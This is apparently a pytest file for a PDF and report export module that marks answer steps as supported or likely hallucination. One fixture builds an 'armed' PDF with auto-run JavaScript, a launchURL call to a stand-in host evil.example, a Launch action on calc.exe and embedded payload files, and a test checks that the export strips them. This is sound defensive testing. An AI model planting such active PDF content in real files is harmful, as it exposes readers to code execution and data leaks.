from __future__ import annotations

import json
import re

import pymupdf
import pytest

from gechat.ui.export import VERDICT_COLOURS, annotated_pdf, answer_json, markdown_report
from gechat.ui.review import Review


def _annots(pdf: bytes) -> list[tuple[int, str, str, tuple]]:
    out = []
    with pymupdf.open(stream=pdf, filetype="pdf") as doc:
        for page in doc:
            for a in page.annots():
                out.append((page.number + 1, a.type[1], a.info["content"], tuple(a.rect), a.colors["stroke"]))
    return out


def _overlaps(rect, box) -> bool:
    return rect[0] < box[2] and box[0] < rect[2] and rect[1] < box[3] and box[1] < rect[3]


def test_annotated_pdf_highlights_each_step_with_its_id(fips_pdf, pdf_answer):
    doc_id = pdf_answer.evidence[0].best.sentence.doc_id
    data, n = annotated_pdf(fips_pdf.read_bytes(), doc_id, pdf_answer)
    annots = _annots(data)
    assert n == 2 and len(annots) == 2
    assert {a[1] for a in annots} == {"Highlight"} and {a[0] for a in annots} == {2}
    contents = sorted(a[2] for a in annots)
    # each highlight names its verdict and is coloured by it
    assert contents[0].startswith("S1 · supported: NIST publishes") and contents[1].startswith("S2 · likely hallucination:")
    colours = {a[2][:2]: tuple(round(c, 2) for c in a[4]) for a in annots}
    assert colours["S1"] == tuple(round(c, 2) for c in VERDICT_COLOURS["supported"])
    assert colours["S2"] == tuple(round(c, 2) for c in VERDICT_COLOURS["likely_hallucination"])
    assert colours["S1"] != colours["S2"]
    s1 = next(a for a in annots if a[2].startswith("S1"))
    assert _overlaps(s1[3], pdf_answer.evidence[0].best.sentence.boxes[0])
    _, none = annotated_pdf(fips_pdf, "doc-other", pdf_answer)
    assert none == 0


def test_annotated_pdf_follows_reviewer_decisions(fips_pdf, pdf_answer):
    doc_id = pdf_answer.evidence[0].best.sentence.doc_id
    review = Review()
    review.reject(pdf_answer, "S2")
    review.replace(pdf_answer, "S1", 0)
    data, n = annotated_pdf(fips_pdf, doc_id, pdf_answer, review)
    annots = _annots(data)
    assert n == 1 and annots[0][2].startswith("S1")
    foreword = pdf_answer.evidence[0].alternatives[0].sentence.boxes[0]
    assert _overlaps(annots[0][3], foreword)


def test_answer_json_carries_the_review_and_the_reviewed_evidence(pdf_answer):
    review = Review()
    review.replace(pdf_answer, "S1", 0, note="closer")
    review.reject(pdf_answer, "S2")
    doc_id = pdf_answer.evidence[0].best.sentence.doc_id
    data = json.loads(answer_json(pdf_answer, review, doc_names={doc_id: "fips199.pdf"}))
    assert data["question"] == "Who publishes FIPS?"
    assert data["review"]["S1"]["action"] == "replace" and data["review"]["S1"]["note"] == "closer"
    first = data["reviewed_evidence"][0]
    assert first["decision"] == "replace" and first["evidence"]["text"] == "FOREWORD"
    assert first["evidence"]["document"] == "fips199.pdf" and first["evidence"]["page"] == 2
    assert data["reviewed_evidence"][1]["decision"] == "reject"
    # the original choice is still in the record
    assert data["evidence"][0]["best"]["entailment"] == 0.93


def test_markdown_report_lists_steps_scores_verdicts_and_decisions(pdf_answer):
    review = Review()
    review.accept(pdf_answer, "S1")
    review.reject(pdf_answer, "S2", note="not in <the> text")
    md = markdown_report(pdf_answer, review, doc_names={})
    assert md.startswith("# GE-Chat answer: Who publishes FIPS?")
    assert "**\\[A1\\]** NIST publishes FIPS." in md or "**[A1]** NIST publishes FIPS." in md
    assert "### [S1] NIST publishes the FIPS series." in md
    assert "entailment 0.93 · neutral 0.07 · contradiction 0.00 · length penalty 0.00 · score 0.47" in md
    assert "Verdict: **supported**" in md and "Verdict: **likely hallucination**" in md
    assert "Reviewer: **accepted**" in md and "Reviewer: **rejected** (not in \\<the\\> text)" in md
    assert "page 2" in md and "Review: 1 accepted, 0 replaced, 1 rejected, 0 open" in md
    plain = markdown_report(pdf_answer)
    assert "Reviewer: not reviewed" in plain
    assert "closer to implying" not in plain  # S2's alternative reads no higher than its evidence


def test_markdown_report_points_to_a_more_entailing_alternative(pdf_answer):
    from dataclasses import replace

    s2 = pdf_answer.evidence[1]
    closer = replace(s2.alternatives[0], entailment=0.8)
    answer = replace(pdf_answer, evidence=(pdf_answer.evidence[0], replace(s2, alternatives=(closer,))))
    md = markdown_report(answer)
    assert "- The judge reads another sentence as closer to implying the step (" in md
    assert "entailment 0.80" in md


def _armed_pdf(tmp_path) -> bytes:
    """A PDF with document JavaScript (open action and name tree), a launch link, an embedded file and an attachment."""
    import pymupdf

    doc = pymupdf.open()
    page = doc.new_page()
    page.insert_text((72, 100), "The harbor bridge opened in 1932.", fontsize=12)
    cat = doc.pdf_catalog()
    doc.xref_set_key(cat, "OpenAction", "<</S/JavaScript/JS(app.alert('opened'))>>")
    js = doc.get_new_xref()
    doc.update_object(js, "<</S/JavaScript/JS(app.launchURL('http://evil.example/leak'))>>")
    doc.xref_set_key(cat, "Names", f"<</JavaScript<</Names[(leak) {js} 0 R]>>>>")
    doc.xref_set_key(page.xref, "AA", "<</O<</S/JavaScript/JS(app.alert('page'))>>>>")
    launch = doc.get_new_xref()
    doc.update_object(launch, "<</S/Launch/F(calc.exe)>>")
    annot = page.add_text_annot((300, 300), "note")
    doc.xref_set_key(annot.xref, "A", f"{launch} 0 R")
    doc.embfile_add("payload.txt", b"EMBEDDEDSECRETPAYLOAD")
    page.add_file_annot((100, 200), b"ATTACHEDSECRETPAYLOAD", "attached.txt")
    data = doc.tobytes()
    doc.close()
    return data


@pytest.mark.battery(case="Annotated PDF export of a PDF with JavaScript, a launch action and embedded files",
                     did="export the annotated PDF of an original carrying document/page JavaScript, a launch "
                         "action, an embedded file and a file attachment",
                     user_sees="the annotated PDF with its text and highlights",
                     stored="a download without any JavaScript, launch action, embedded file or attachment")
def test_annotated_pdf_drops_the_originals_javascript_and_embedded_files(tmp_path, pdf_answer):
    import pymupdf

    original = _armed_pdf(tmp_path)
    before = pymupdf.open(stream=original)
    assert before.embfile_count() == 1 and "JavaScript" in before.xref_object(before.pdf_catalog())
    before.close()
    data, _ = annotated_pdf(original, "doc-none", pdf_answer)
    out = pymupdf.open(stream=data)
    try:
        assert out.embfile_count() == 0
        assert [a.type[1] for a in out[0].annots()] == ["Text"]  # the file attachment is gone
        assert "harbor bridge opened in 1932" in out[0].get_text()
        objects = " ".join(out.xref_object(x) for x in range(1, out.xref_length()))
        for active in ("app.alert", "launchURL", "/Launch", "calc.exe"):
            assert active not in objects, active
        assert not re.search(r"/JS\s*\((?!\))", objects)  # any JavaScript left is empty
        assert out.xref_get_key(out.pdf_catalog(), "OpenAction")[0] == "null"
        assert out.xref_get_key(out[0].xref, "AA")[0] == "null"
        raw = out.tobytes(expand=True)  # every stream decompressed: the files' bytes are not hidden in one
        assert b"EMBEDDEDSECRETPAYLOAD" not in raw and b"ATTACHEDSECRETPAYLOAD" not in raw
    finally:
        out.close()


def test_annotated_pdf_of_a_file_whose_cross_reference_table_lists_missing_objects(pdf_answer):
    """NIST SP 800-207 lists 59 objects its file does not hold; the export used to stop at the first one."""
    from tests.conftest import find_sample

    original = find_sample("NIST_SP_800-207_zero_trust_architecture_59p.pdf").read_bytes()
    with pymupdf.open(stream=original) as doc:
        missing = 0
        for xref in range(1, doc.xref_length()):
            try:
                doc.xref_object(xref)
            except RuntimeError:
                missing += 1
    assert missing > 0  # the file still is what this test is about
    data, n = annotated_pdf(original, "doc-none", pdf_answer)
    with pymupdf.open(stream=data) as out:
        assert n == 0 and out.page_count == 59 and "zero trust" in out[9].get_text().lower()


def test_exports_carry_the_findings_reason(pdf_answer):
    import json
    from dataclasses import replace

    from gechat.ui.export import answer_json

    reason = "the step reports a finding; the sentence reports no result"
    s1 = pdf_answer.evidence[0]
    answer = replace(pdf_answer, evidence=(replace(s1, best=replace(s1.best, entailment=0.1, unstated=reason),
                                                   entailed=False, verdict="unsupported"), *pdf_answer.evidence[1:]))
    assert f"- Not evidence of a result: {reason}" in markdown_report(answer)
    data = json.loads(answer_json(answer))
    assert data["evidence"][0]["best"]["unstated"] == reason
    missing = "the step gives 200 people; the sentence states no such figure"
    answer = replace(pdf_answer, evidence=(replace(s1, best=replace(s1.best, missing=missing), entailed=False,
                                                   verdict="unsupported"), *pdf_answer.evidence[1:]))
    assert f"- Cannot support the step: {missing}" in markdown_report(answer)
    assert json.loads(answer_json(answer))["evidence"][0]["best"]["missing"] == missing
    assert data["reviewed_evidence"][0]["evidence"]["unstated"] == reason
    assert data["evidence"][0]["best"]["fragment"] is s1.best.fragment


def test_exports_say_when_the_evidence_is_not_a_whole_sentence(pdf_answer):
    import json
    from dataclasses import replace

    from gechat.ui.export import answer_json

    s1 = pdf_answer.evidence[0]
    answer = replace(pdf_answer, evidence=(replace(s1, best=replace(s1.best, fragment=True)), *pdf_answer.evidence[1:]))
    assert json.loads(answer_json(answer))["evidence"][0]["best"]["fragment"] is True
    assert json.loads(answer_json(pdf_answer))["evidence"][0]["best"]["fragment"] is False
